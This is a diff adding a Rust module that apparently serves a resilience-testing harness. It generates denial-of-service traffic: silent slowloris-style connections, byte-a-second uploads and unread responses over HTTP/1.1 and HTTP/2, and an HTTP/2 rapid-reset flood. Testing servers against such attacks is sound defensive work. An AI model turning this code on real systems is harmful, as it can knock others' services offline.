@@ -1,0 +1,207 @@
+//! Attackers over TCP: silence, slow uploads, responses that are not read, resets.
+
+use super::{
+    BYTE, CONNECTIONS, FROM, SMALL, STREAMS, Shared, TICK, UNREAD, UPLOAD, due, tls,
+    wire::{self, Ask, h2},
+};
+use anyhow::{Context as _, Result};
+use std::{
+    cell::Cell,
+    net::{Ipv4Addr, SocketAddr},
+    rc::Rc,
+    time::Duration,
+};
+use tokio::{
+    io::{AsyncReadExt as _, AsyncWriteExt as _, ReadHalf, WriteHalf, split},
+    net::{TcpSocket, TcpStream},
+    task::spawn_local,
+    time::{Instant, sleep, timeout},
+};
+use tokio_rustls::{TlsConnector, client::TlsStream};
+
+/// Connections a second that say nothing.
+pub(super) const SILENT_RATE: u32 = 300;
+/// Requests a second that are reset, over each protocol, from all connections together.
+pub(super) const RESET_RATE: u32 = 4_000;
+/// For a connection, its handshake included.
+const CONNECT: Duration = Duration::from_secs(10);
+/// What the kernel keeps of what is not read: as little as it lets one ask for.
+const RECEIVE_BUFFER: u32 = 4096; // bytes
+/// An attacker over HTTP/1.1 that does not read cannot see that it was closed: it begins anew after so long.
+const LIFE: Duration = Duration::from_secs(20);
+/// What is offered of windows over HTTP/2 to a response that is not read, a stream and more a connection.
+const STREAM_WINDOW: u32 = 1 << 20; // bytes
+const CONNECTION_WINDOW: u32 = 256 << 20; // bytes
+/// Read at a time.
+const PIECE: usize = 16 * 1024; // bytes
+
+/// Opens a connection.
+pub(super) async fn connect(from: Ipv4Addr, to: SocketAddr, receive_buffer: Option<u32>) -> Result<TcpStream> {
+    let socket = TcpSocket::new_v4()?;
+    if let Some(size) = receive_buffer {
+        socket.set_recv_buffer_size(size)?;
+    }
+    socket.bind((from, 0).into())?;
+    let stream = socket.connect(to).await?;
+    stream.set_nodelay(true)?;
+    Ok(stream)
+}
+
+/// Opens an attacker's connection with TLS.
+async fn secure(shared: &Shared, protocol: &'static str, receive_buffer: Option<u32>) -> Result<TlsStream<TcpStream>> {
+    let config = shared.tls.borrow_mut().of(protocol)?;
+    let handshake = async {
+        let stream = connect(FROM, shared.target.address, receive_buffer).await?;
+        anyhow::Ok(TlsConnector::from(config).connect(tls::name()?, stream).await?)
+    };
+    let stream = timeout(CONNECT, handshake).await.context("no connection in time")??;
+    shared.count(|tally| tally.connections += 1);
+    Ok(stream)
+}
+
+/// Opens connections that say nothing, at a rate; each stays until the server closes it, or the process ends.
+pub(super) async fn silent(shared: Rc<Shared>, to: SocketAddr) {
+    let (began, mut opened) = (Instant::now(), 0);
+    while !shared.is_over() {
+        while opened < due(SILENT_RATE, began.elapsed()) {
+            opened += 1;
+            let shared = Rc::clone(&shared);
+            spawn_local(async move {
+                let stream = timeout(CONNECT, connect(FROM, to, None)).await;
+                if let Ok(Ok(mut stream)) = stream {
+                    shared.count(|tally| tally.connections += 1);
+                    // Until it is closed.
+                    let _ = stream.read(&mut [0]).await;
+                }
+                shared.count(|tally| tally.closed += 1);
+            });
+        }
+        sleep(TICK).await;
+    }
+}
+
+/// An upload of a byte a second over HTTP/1.1.
+pub(super) async fn upload_h1(shared: Rc<Shared>) -> Result<()> {
+    let mut stream = secure(&shared, "http/1.1", None).await?;
+    stream.write_all(&wire::h1(Ask::Post(UPLOAD))).await?;
+    shared.count(|tally| tally.requests += 1);
+    loop {
+        stream.write_all(b"a").await?;
+        stream.flush().await?;
+        // Whatever is answered, it is over.
+        if let Ok(answer) = timeout(BYTE, stream.read(&mut [0; PIECE])).await {
+            answer?;
+            return Ok(());
+        }
+    }
+}
+
+/// A response over HTTP/1.1 that is not read.
+pub(super) async fn unread_h1(shared: Rc<Shared>) -> Result<()> {
+    let mut stream = secure(&shared, "http/1.1", Some(RECEIVE_BUFFER)).await?;
+    stream.write_all(&wire::h1(Ask::Get(UNREAD))).await?;
+    stream.flush().await?;
+    shared.count(|tally| tally.requests += 1);
+    sleep(LIFE).await;
+    Ok(())
+}
+
+/// As many uploads as a connection of HTTP/2 may have, of a byte a second each. One that ends is followed by another.
+pub(super) async fn upload_h2(shared: Rc<Shared>) -> Result<()> {
+    let (reader, mut writer) = begin_h2(&shared, None).await?;
+    let (ended, is_open) = (Rc::new(Cell::new(0)), Rc::new(Cell::new(true)));
+    spawn_local(count_ends(reader, Rc::clone(&ended), Rc::clone(&is_open)));
+    let (mut streams, mut next): (Vec<u32>, u32) = (Vec::new(), 1);
+    while is_open.get() {
+        // Which of them ended makes no difference: frames of streams that are closed are ignored for a while.
+        let over = ended.take().min(streams.len());
+        streams.drain(..over);
+        let mut frames = Vec::new();
+        while streams.len() < STREAMS {
+            frames.extend(wire::h2_headers(Ask::Post(UPLOAD), next));
+            streams.push(next);
+            next += 2;
+            shared.count(|tally| tally.requests += 1);
+        }
+        frames.extend(streams.iter().flat_map(|stream| wire::h2_frame(h2::DATA, 0, *stream, b"a")));
+        writer.write_all(&frames).await?;
+        writer.flush().await?;
+        sleep(BYTE).await;
+    }
+    Ok(())
+}
+
+/// As many responses as a connection of HTTP/2 may have, none of which is read.
+pub(super) async fn unread_h2(shared: Rc<Shared>) -> Result<()> {
+    let (_reader, mut writer) = begin_h2(&shared, Some(RECEIVE_BUFFER)).await?;
+    let streams = (0..STREAMS).filter_map(|nth| u32::try_from(nth * 2 + 1).ok());
+    let frames: Vec<u8> = streams.flat_map(|stream| wire::h2_headers(Ask::Get(UNREAD), stream)).collect();
+    writer.write_all(&frames).await?;
+    shared.count(|tally| tally.requests += STREAMS as u64);
+    loop {
+        // Fails once the server has reset the connection.
+        writer.write_all(&wire::h2_frame(h2::PING, 0, 0, &[0; 8])).await?;
+        writer.flush().await?;
+        sleep(BYTE).await;
+    }
+}
+
+/// Requests over HTTP/2 that are reset as soon as they are sent.
+pub(super) async fn resets(shared: Rc<Shared>) -> Result<()> {
+    let (mut reader, mut writer) = begin_h2(&shared, None).await?;
+    let is_open = Rc::new(Cell::new(true));
+    let still = Rc::clone(&is_open);
+    spawn_local(async move {
+        let mut piece = vec![0; PIECE];
+        while reader.read(&mut piece).await.is_ok_and(|read| read > 0) {}
+        still.set(false);
+    });
+    let (began, mut sent, mut stream) = (Instant::now(), 0, 1);
+    while is_open.get() {
+        let mut frames = Vec::new();
+        let rate = RESET_RATE / u32::try_from(CONNECTIONS)?;
+        while sent < due(rate, began.elapsed()) {
+            frames.extend(wire::h2_headers(Ask::Get(SMALL), stream));
+            frames.extend(wire::h2_frame(h2::RST_STREAM, 0, stream, &h2::CANCEL));
+            (sent, stream) = (sent + 1, stream + 2);
+            shared.count(|tally| tally.requests += 1);
+        }
+        writer.write_all(&frames).await?;
+        writer.flush().await?;
+        sleep(TICK).await;
+    }
+    Ok(())
+}
+
+type Halves = (ReadHalf<TlsStream<TcpStream>>, WriteHalf<TlsStream<TcpStream>>);
+
+/// Opens a connection of HTTP/2: settings are exchanged, and windows offered.
+async fn begin_h2(shared: &Shared, receive_buffer: Option<u32>) -> Result<Halves> {
+    let (mut reader, mut writer) = split(secure(shared, "h2", receive_buffer).await?);
+    writer.write_all(&wire::h2_preface(STREAM_WINDOW, CONNECTION_WINDOW)).await?;
+    writer.flush().await?;
+    // The server's SETTINGS come first.
+    let mut header = [0; h2::HEADER];
+    timeout(CONNECT, reader.read_exact(&mut header)).await.context("no settings in time")??;
+    let (.., length) = wire::h2_header(header);
+    reader.read_exact(&mut vec![0; length]).await?;
+    writer.write_all(&wire::h2_frame(h2::SETTINGS, h2::ACK, 0, &[])).await?;
+    writer.flush().await?;
+    Ok((reader, writer))
+}
+
+/// Counts streams that the server ends or resets, until the connection ends.
+async fn count_ends(mut reader: ReadHalf<TlsStream<TcpStream>>, ended: Rc<Cell<usize>>, is_open: Rc<Cell<bool>>) {
+    let mut header = [0; h2::HEADER];
+    while reader.read_exact(&mut header).await.is_ok() {
+        let (kind, flags, length) = wire::h2_header(header);
+        if reader.read_exact(&mut vec![0; length]).await.is_err() {
+            break;
+        }
+        let is_end = matches!(kind, h2::DATA | h2::HEADERS) && flags & h2::END_STREAM != 0;
+        if is_end || kind == h2::RST_STREAM {
+            ended.set(ended.get() + 1);
+        }
+    }
+    is_open.set(false);
+}
